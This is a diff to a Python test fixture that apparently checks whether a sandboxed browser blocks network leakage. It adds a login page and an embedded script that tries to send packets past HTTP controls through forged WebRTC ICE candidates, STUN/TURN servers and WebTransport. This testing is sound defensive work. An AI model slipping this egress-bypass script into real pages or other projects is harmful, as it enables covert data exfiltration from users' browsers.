@@ -115,9 +115,23 @@ def allowed_app(foreign: str) -> Starlette:
             "'storage=' + (localStorage.getItem('who') || 'none');</script>",
         )
 
+    async def login(_r: Request) -> Response:
+        return _page(
+            "Login",
+            "<h1>Sign in</h1><label>User <input id='user'></label>"
+            "<label>Password <input id='pw' type='password'></label>"
+            "<label>Code <input id='code' autocomplete='one-time-code'></label>"
+            "<label>Kept <input id='kept' type='password' value='preset-pw-123'></label>",
+        )
+
+    async def network(_r: Request) -> Response:
+        return _page("Network", "<h1>Network</h1><p id='done'></p>", head=NETWORK_ATTACKS)
+
     return Starlette(
         routes=[
             Route("/", home),
+            Route("/network", network),
+            Route("/login", login),
             Route("/second", second),
             Route("/redirect", redirect),
             Route("/location", location),
@@ -133,6 +147,74 @@ def allowed_app(foreign: str) -> Starlette:
             Route("/show", show_storage),
         ]
     )
+
+
+# Every way a page script can send packets that are not HTTP, aimed at the listeners the
+# query string names (`?udp=addr:port,...&tcp=addr:port,...&names=host,...`): WebRTC
+# connectivity checks to hand-written host candidates (UDP and TCP), STUN and TURN servers
+# (UDP and TCP), WebTransport (QUIC), and servers named by a DNS name.
+NETWORK_ATTACKS = r"""<script>
+(async () => {
+  const q = new URLSearchParams(location.search);
+  const list = (k) => (q.get(k) || "").split(",").filter(Boolean).map((t) => {
+    const i = t.lastIndexOf(":");
+    return [t.slice(0, i), Number(t.slice(i + 1))];
+  });
+  const host = (a) => (a.includes(":") ? "[" + a + "]" : a);
+  const udp = list("udp"), tcp = list("tcp"), names = (q.get("names") || "").split(",");
+  const tries = [];
+  const bounded = (f) => Promise.race([
+    Promise.resolve().then(f), new Promise((r) => setTimeout(r, 3000))]);
+  const attempt = (f) => tries.push(bounded(f).catch(() => null));
+  // 1. Connectivity checks to candidates the page wrote itself.
+  attempt(async () => {
+    const pc = new RTCPeerConnection();
+    pc.createDataChannel("leak");
+    const offer = await pc.createOffer();
+    await pc.setLocalDescription(offer);
+    let n = 0;
+    const line = (proto, prio, [a, p], tail) =>
+      `a=candidate:${++n} 1 ${proto} ${prio} ${a} ${p} typ host${tail}`;
+    const cand = [
+      ...udp.map((t) => line("udp", 2122260223, t, "")),
+      ...tcp.map((t) => line("tcp", 1518280447, t, " tcptype passive")),
+    ];
+    const sdp = offer.sdp
+      .replace(/a=ice-ufrag:.*\r\n/, "a=ice-ufrag:LEAKUSER\r\n")
+      .replace(/a=ice-pwd:.*\r\n/, "a=ice-pwd:leakleakleakleakleakleak\r\n")
+      .replace(/a=setup:actpass/, "a=setup:active")
+      .replace(/(a=mid:0\r\n)/, "$1" + cand.join("\r\n") + "\r\n");
+    await pc.setRemoteDescription({ type: "answer", sdp });
+  });
+  // 2. STUN and TURN servers, UDP and TCP, by address and by name.
+  const turn = (transport) => ([a, p]) =>
+    ({
+      urls: `turn:${host(a)}:${p}?transport=${transport}`, username: "LEAKUSER", credential: "p"
+    });
+  const servers = [
+    ...udp.map(([a, p]) => ({ urls: `stun:${host(a)}:${p}` })),
+    ...udp.map(turn("udp")),
+    ...tcp.map(turn("tcp")),
+    ...names.filter(Boolean).map((name) => ({ urls: `stun:${name}:3478` })),
+  ];
+  for (const server of servers) {
+    attempt(async () => {
+      const pc = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: "all" });
+      pc.createDataChannel("leak");
+      await pc.setLocalDescription(await pc.createOffer());
+    });
+  }
+  // 3. WebTransport: QUIC over UDP.
+  for (const [a, p] of udp) {
+    attempt(async () => {
+      const wt = new WebTransport(`https://${host(a)}:${p}/leak`);
+      await wt.ready;
+    });
+  }
+  await Promise.all(tries);
+  document.getElementById("done").textContent = "attempted " + tries.length;
+})();
+</script>"""
 
 
 @dataclass
